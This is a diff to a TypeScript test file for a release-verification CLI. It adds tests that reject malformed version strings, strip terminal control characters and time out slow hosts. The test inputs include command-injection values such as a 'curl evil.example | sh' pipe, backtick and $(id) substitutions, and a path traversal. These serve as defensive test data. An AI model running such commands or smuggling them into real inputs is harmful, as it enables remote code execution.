@@ -7,10 +7,11 @@ import { compress } from '../cli/compression.js';
 import { deploy } from '../cli/deployment.js';
 import { serve } from '../cli/serve.js';
 import { headerProblems } from '../cli/verify/headers.js';
-import { get } from '../cli/verify/http.js';
+import { deadlineAfter, get } from '../cli/verify/http.js';
 import { verify } from '../cli/verify/index.js';
+import { commandFor } from '../cli/verify/printable.js';
 import { describe } from '../cli/verify/report.js';
-import { CONFIGURATION, smallRelease } from './support/release.js';
+import { CONFIGURATION, GIVEN, smallRelease } from './support/release.js';
 
 const NOTHING = { embedders: [], uploads: [] };
 
@@ -23,31 +24,32 @@ const served = async (
   ) => void = () => {},
   release = smallRelease(),
 ): Promise<URL> => {
-  const origin = await serve(deploy(release, CONFIGURATION), 0);
+  const origin = await serve(deploy(release, CONFIGURATION, 'v1'), 0);
   const proxy: Server = createServer((request, response) => {
     const accepted = String(request.headers['accept-encoding'] ?? 'identity');
     // The small files come as they are from here: `get` undoes the encoding.
-    void get(new URL(request.url ?? '', origin.url), { 'Accept-Encoding': accepted }).then(
-      (answer) => {
-        const headers: OutgoingHttpHeaders = Object.fromEntries(
-          answer.headers.filter(
-            ([name]) =>
-              !/^(content-encoding|content-length|connection|keep-alive|date)$/i.test(name),
-          ),
-        );
-        const changed: Parameters<typeof tamper>[1] = {
-          status: answer.status,
-          headers,
-          body: answer.body,
-        };
-        tamper(request.url ?? '', changed);
-        if (answer.encoding == 'br' && !changed.isPlain) {
-          changed.headers['Content-Encoding'] = 'br';
-          changed.body = compress.br(changed.body);
-        }
-        response.writeHead(changed.status, changed.headers).end(changed.body);
-      },
-    );
+    void get(
+      new URL(request.url ?? '', origin.url),
+      { 'Accept-Encoding': accepted },
+      deadlineAfter(10_000),
+    ).then((answer) => {
+      const headers: OutgoingHttpHeaders = Object.fromEntries(
+        answer.headers.filter(
+          ([name]) => !/^(content-encoding|content-length|connection|keep-alive|date)$/i.test(name),
+        ),
+      );
+      const changed: Parameters<typeof tamper>[1] = {
+        status: answer.status,
+        headers,
+        body: answer.body,
+      };
+      tamper(request.url ?? '', changed);
+      if (answer.encoding == 'br' && !changed.isPlain) {
+        changed.headers['Content-Encoding'] = 'br';
+        changed.body = compress.br(changed.body);
+      }
+      response.writeHead(changed.status, changed.headers).end(changed.body);
+    });
   });
   await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
   context.after(async () => {
@@ -70,7 +72,7 @@ const problems = async (
   );
 
 test('a frame that is served as it was deployed is the same', async (context) => {
-  const report = await verify(await served(context), smallRelease(), CONFIGURATION);
+  const report = await verify(await served(context), smallRelease(), GIVEN);
   assert.deepEqual(report.differences, []);
   assert.ok(report.ok);
   assert.deepEqual(report.configuration, CONFIGURATION);
@@ -81,7 +83,7 @@ test('a frame that is served as it was deployed is the same', async (context) =>
       ['https://admin.example', true],
     ],
   );
-  assert.match(describe(report), /the same: 4 files, 40 headers\n$/);
+  assert.match(describe(report), /the same: 4 files, 44 headers\n$/);
 });
 
 test('one byte of one file is told, with both hashes', async (context) => {
@@ -249,4 +251,71 @@ test('headers are compared by what they mean', () => {
   ];
   for (const [name, expected, found] of different)
     assert.equal(headerProblems({ [name]: expected }, answer([[name, found]])).length, 1, name);
+});
+
+test('a command is suggested for a strict version alone', async (context) => {
+  for (const release of [
+    '1.2',
+    '9.9.9; curl evil.example | sh',
+    'https://evil.example/x.tgz',
+    '../../evil',
+    'latest',
+    '9.9.9+build',
+    '9.9.9-`id`',
+    `9.9.9-${'a'.repeat(40)}`,
+  ]) {
+    const frame = await served(context, () => {}, smallRelease(release));
+    const { differences } = await verify(frame, smallRelease(), NOTHING);
+    assert.deepEqual(
+      differences.map(({ problem }) => problem),
+      ['names no released version of this package'],
+    );
+  }
+  const frame = new URL('https://frame.example/v1/');
+  assert.equal(
+    commandFor('9.9.9-rc.1', frame),
+    'npx sordino@9.9.9-rc.1 frame --verify https://frame.example/v1/',
+  );
+  // As `new URL` leaves it.
+  const odd = new URL("https://frame.example/$(id)';x/");
+  assert.equal(commandFor('9.9.9', odd), 'npx sordino@9.9.9 frame --verify URL');
+});
+
+test('what a host says moves no cursor and turns no text', async (context) => {
+  const evil = '\u001b[2Jok\u009b31m\u202eevil\u2028\u200b';
+  const frame = await served(context, (path, answer) => {
+    if (path.endsWith('vault.html')) answer.headers['X-Frame-Options'] = 'a\u009b31mb';
+    if (path.endsWith('field.html'))
+      Object.assign(answer, { status: 302, headers: { Location: '/a\u009b2Jb' } });
+    if (path.endsWith('vault.js')) answer.headers['Referrer-Policy'] = 'c'.repeat(5_000);
+  });
+  const report = await verify(frame, smallRelease(), NOTHING);
+  const said = [describe(report), JSON.stringify(report)];
+  for (const text of said) {
+    assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
+    assert.match(text, /a31mb/, 'the rest of it is there');
+    assert.match(text, /redirect to \/a2Jb/);
+    assert.ok(!text.includes('c'.repeat(1_001)));
+  }
+  const named = await served(context, () => {}, smallRelease(evil));
+  const [difference] = (await verify(named, smallRelease(), NOTHING)).differences;
+  assert.equal(difference?.found, '[2Jok31mevil');
+});
+
+test('a host that drips bytes is waited for once, and not for each byte', async (context) => {
+  let drips = 0;
+  const dripping = createServer((_, response) => {
+    response.writeHead(200, { 'Content-Type': 'text/html' });
+    const timer = setInterval(() => {
+      drips += 1;
+      response.write(' ');
+    }, 20);
+    response.on('close', () => clearInterval(timer));
+  });
+  await new Promise<void>((resolve) => dripping.listen(0, '127.0.0.1', resolve));
+  context.after(() => dripping.close());
+  const frame = new URL(`http://127.0.0.1:${(dripping.address() as AddressInfo).port}/v1/`);
+  const { ok, differences } = await verify(frame, smallRelease(), NOTHING, [], 300);
+  assert.ok(!ok && drips > 1, 'it was not silent');
+  assert.match(differences[0]?.problem ?? '', /can’t be reached: no whole answer within 0\.3 s/);
 });
